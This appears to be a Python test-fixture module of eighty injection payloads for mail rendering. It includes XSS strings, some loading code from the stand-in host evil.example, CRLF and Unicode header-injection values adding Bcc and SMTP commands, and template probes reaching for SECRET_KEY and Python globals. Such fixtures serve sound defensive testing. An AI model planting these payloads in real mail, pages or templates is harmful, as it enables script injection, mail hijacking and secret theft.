# ruff: noqa: E501 - a list is read by its columns
"""Eighty texts that somebody might want to run in another's mail: markup, headers, templates, addresses."""

ACTIVE = (
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>", "<a href=javascript:alert(1)>x</a>",
    "<a href='https://evil.example'>your points</a>", "<form action=https://evil.example><input name=p></form>",
    "<input autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)>", "<details open ontoggle=alert(1)>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>", "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>", "<link rel=stylesheet href=//evil.example/x.css>", "<style>*{display:none}</style>",
    "<style>@import '//evil.example/x.css';</style>", "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<marquee onstart=alert(1)>", "<textarea><img src=x onerror=alert(1)></textarea>", "<title></title><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->", "<![CDATA[<script>alert(1)</script>]]>", "</p></div></body></html><script>alert(1)</script>",
    "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "' onmouseover='alert(1)", "\" style=\"background:url(//evil.example)",
    "<img src=https://evil.example/pixel.gif>", "<div style=background:url(https://evil.example/p)>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<img/src='x'/onerror=alert(1)>", "<a href=\"jav\tascript:alert(1)\">x</a>",
)  # fmt: skip
HEADERS = (
    "x\r\nBcc: all@evil.example", "x\nBcc: all@evil.example", "x\rBcc: all@evil.example", "x\r\n\r\n<script>alert(1)</script>",
    "x\u2028Bcc: all@evil.example", "x\u2029Bcc: all@evil.example", "x\x0bBcc: all@evil.example", "x\x0cBcc: all@evil.example",
    "x\x85Bcc: all@evil.example", "x\x1cBcc: all@evil.example", "x\x1dBcc: all@evil.example", "x\x1eBcc: all@evil.example",
    "=?utf-8?q?x=0D=0ABcc:_all@evil.example?=", "=?utf-8?b?eA0KQmNjOiBhbGxAZXZpbC5leGFtcGxl?=", "x%0d%0aBcc: all@evil.example",
    "x\r\n Bcc: all@evil.example", "x\nTo: other@evil.example\nSubject: y", "x\r\nContent-Type: text/html\r\n\r\n<b>y</b>",
    "x\r\n.\r\nMAIL FROM:<a@evil.example>", "x\nReply-To: a@evil.example", "x\r\nX-Evil: 1" * 20,
    "x\r\nList-Unsubscribe: <https://evil.example>", "\r\n\r\n\r\n", "x\ufeff\r\nBcc: all@evil.example",
)  # fmt: skip
TEMPLATES = (
    "{{ settings.SECRET_KEY }}", "{{ request.user }}", "{% load i18n %}", "{% include 'panel/frame.html' %}", "{% debug %}",
    "{{ shop }}{{ shop }}", "{{ leave }}", "{{ points|safe }}", "{{points.__class__.__mro__}}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
    "%(points)s", "{points.__init__.__globals__}", "{{ '{{ points }}' }}", "{{{ points }}}",
)  # fmt: skip
PAYLOADS = (*ACTIVE, *HEADERS, *TEMPLATES)
